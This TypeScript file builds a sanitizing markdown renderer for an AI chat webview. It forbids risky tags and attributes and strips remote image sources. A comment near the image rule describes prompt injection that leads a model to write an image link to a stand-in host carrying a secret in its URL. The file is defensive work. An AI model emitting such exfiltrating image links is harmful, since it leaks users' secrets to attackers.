// marked is ESM-only; the resolution-mode attribute lets the Node (CommonJS) test build type-check this file too.
import type { Links, Marked, Token, TokensList } from 'marked' with { 'resolution-mode': 'import' };
import type { Config, DOMPurify } from 'dompurify';
import type { HLJSApi } from 'highlight.js';
import { CodeHighlighter, type LanguageLoader } from './highlight';

/** Link reference definitions (`[id]: url`) by label, as marked collects them: they apply to the whole answer. */
export type LinkDefinitions = Links;

/** Turns model or user markdown into HTML that is safe to assign to `innerHTML`. */
export interface MarkdownRenderer {
	/** Full markdown (answers): paragraphs, lists, fenced code as `<pre><code class="language-x">`. */
	block(markdown: string): string;
	/** Inline markdown only (user turns): backticks become `<code>`, newlines stay text. */
	inline(markdown: string): string;
	/**
	 * The streaming path, step 1: top-level block tokens of part of an answer (src/webview/incrementalMarkdown.ts
	 * lexes only the unfinished tail). `links` are definitions from the rest of the answer; the result's `links`
	 * holds them plus those found here.
	 */
	lex(markdown: string, links: LinkDefinitions): TokensList;
	/**
	 * Step 2: groups of top-level tokens from {@link lex} as sanitized HTML, one string per group, with one sanitize
	 * call for all (a paint renders the newly finished blocks and the tail). Rendering is per block, so a list of
	 * blocks renders to the concatenation of theirs: `render([lex(text)])` equals `[block(text)]`.
	 */
	render(groups: Token[][]): string[];
	/** Recursively visits tokens (for the link definitions inside finished blocks). */
	walk(tokens: Token[], visit: (token: Token) => void): void;
	/** Syntax-highlights the finished code blocks under `root` in place; grammars load on demand. No-op without a highlighter. */
	highlight(root: ParentNode): void;
	/** Resolves when the grammars requested so far have loaded and their blocks are highlighted (tests, benchmark). */
	highlighted(): Promise<void>;
}

/** highlight.js core and the loader of its grammars (src/webview/highlight.ts). */
export interface HighlightSetup {
	hljs: HLJSApi;
	loader: LanguageLoader;
}


/**
 * Tags removed even though DOMPurify's HTML profile allows some of them: nothing in an answer should style the
 * view, take input or embed other documents.
 */
const FORBID_TAGS = ['style', 'form', 'button', 'textarea', 'select', 'option', 'iframe', 'frame', 'object', 'embed', 'link', 'meta', 'base'];

const PURIFY_CONFIG: Config = {
	USE_PROFILES: { html: true },
	FORBID_TAGS,
	FORBID_ATTR: ['style', 'id', 'name', 'target', 'srcset'],
	ALLOW_DATA_ATTR: false,
};

/**
 * The only images an answer may show: inline `data:image/…` ones, which load nothing. Every other `src` is removed,
 * remote or relative: a model can be led (by a file or web page it read) to write `![](https://evil.test/?q=<secret>)`,
 * and fetching that image would send the secret away. The CSP blocks remote hosts too, but not the webview's own
 * resource origin, and a sanitizer that leaves the request to the CSP still makes the browser attempt it.
 */
const INLINE_IMAGE = /^data:image\//i;

const GROUP_SEPARATOR_CLASS = 'md-group-separator';
const GROUP_SEPARATOR = `<hr class="${GROUP_SEPARATOR_CLASS}">`;

/**
 * The tags marked writes for plain structure and web links, with the only attribute values it gives them (a link
 * only to http(s) or mailto, its title escaped by marked; no images, task boxes or other URLs). HTML made of these
 * and text (marked escapes `<` in text, and raw HTML is escaped by our renderer) has nothing DOMPurify would remove:
 * this is the allowlist of a sanitizer much stricter than DOMPurify's, and skipping DOMPurify's per-call parse for
 * it halves the cost of a typical streamed paint. Everything else goes through DOMPurify.
 */
const SAFE_LINK = /<a href="(?:https?:\/\/|mailto:)[^"\s<>]*"(?: title="[^"<>]*")?>/g;
const PLAIN_TAG = new RegExp([
	'</?(?:p|em|strong|del|code|pre|ul|ol|li|blockquote|h[1-6]|table|thead|tbody|tr|th|td|br|hr)>',
	'</a>',
	SAFE_LINK.source,
	'<code class="language-[\\w+#.-]*">',
	'<t[hd] align="(?:left|center|right)">',
	'<ol start="\\d{1,9}">',
	GROUP_SEPARATOR,
].join('|'), 'g');

/** True when `html` is only text and {@link PLAIN_TAG}s: nothing in it can run, load or navigate. */
export function isPlainMarkup(html: string): boolean {
	return !html.replace(PLAIN_TAG, '').includes('<');
}

function escapeHtml(text: string): string {
	return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
}

/**
 * Builds the one markdown pipeline of the webview: `marked` → DOMPurify. marked does not sanitize, so two layers
 * guard `innerHTML`: raw HTML in the markdown is shown as text (an answer that mentions `<div>` should display it,
 * not create it), and DOMPurify strips whatever still looks dangerous (event handlers, `javascript:` URLs, scripts).
 *
 * Both libraries are passed in rather than imported: the browser bundle passes the global DOMPurify, tests pass
 * one bound to a jsdom window. The `marked` instance is configured here (call this once per instance); so is the
 * DOMPurify instance, which gets our config and a hook that adds `rel="noopener"` to links and removes the `src` of
 * images that are not inline data (see {@link INLINE_IMAGE}).
 */
export function createMarkdownRenderer(marked: Marked, purify: DOMPurify, highlight?: HighlightSetup): MarkdownRenderer {
	marked.use({
		gfm: true,
		breaks: false,
		renderer: {
			html: ({ text }) => escapeHtml(text),
		},
	});
	purify.addHook('afterSanitizeAttributes', (node) => {
		if (node.nodeName === 'A') {
			node.setAttribute('rel', 'noopener');
		} else if (node.nodeName === 'IMG' && !INLINE_IMAGE.test(node.getAttribute('src') ?? '')) {
			// Shown as its alt text: an answer's image would otherwise be fetched, and its URL can carry data out.
			node.removeAttribute('src');
		}
	});
	// Set once: passing the config to every sanitize() call makes DOMPurify parse it again each time, which doubled
	// the cost of the many small sanitize calls of streaming (measured in Chromium: 180 → 70 µs per paragraph).
	purify.setConfig(PURIFY_CONFIG);
	const clean = (html: string): string => purify.sanitize(html);
	const highlighter = highlight ? new CodeHighlighter(highlight.hljs, highlight.loader, clean) : undefined;
	return {
		block: (markdown) => clean(marked.parse(markdown, { async: false })),
		inline: (markdown) => clean(marked.parseInline(markdown, { async: false })),
		lex: (markdown, links) => {
			// What marked.parse does (this instance has no hooks or walkTokens), with definitions known up front.
			const lexer = new marked.Lexer(marked.defaults);
			Object.assign(lexer.tokens.links, links);
			return lexer.lex(markdown);
		},
		render: (groups) => {
			if (groups.every((tokens) => tokens.length === 0)) {
				return groups.map(() => '');
			}
			// One sanitize call, unless the markup is plain. The separator cannot come from markdown (raw HTML is
			// escaped and marked adds no class to <hr>), and serialized HTML cannot contain it inside text (`<` is
			// escaped) or an attribute value (`"` is escaped).
			const html = groups.map((tokens) => marked.parser(tokens)).join(GROUP_SEPARATOR);
			// Plain links get the rel="noopener" of our DOMPurify hook, after their attributes, as DOMPurify writes it.
			const safe = isPlainMarkup(html) ? html.replace(SAFE_LINK, (tag) => `${tag.slice(0, -1)} rel="noopener">`) : clean(html);
			const parts = safe.split(GROUP_SEPARATOR);
			if (parts.length !== groups.length) {
				throw new Error('markdown: rendered groups do not match'); // cannot happen: see above
			}
			return parts;
		},
		walk: (tokens, visit) => void marked.walkTokens(tokens, visit),
		highlight: (root) => highlighter?.highlightWithin(root),
		highlighted: async () => highlighter?.idle(),
	};
}
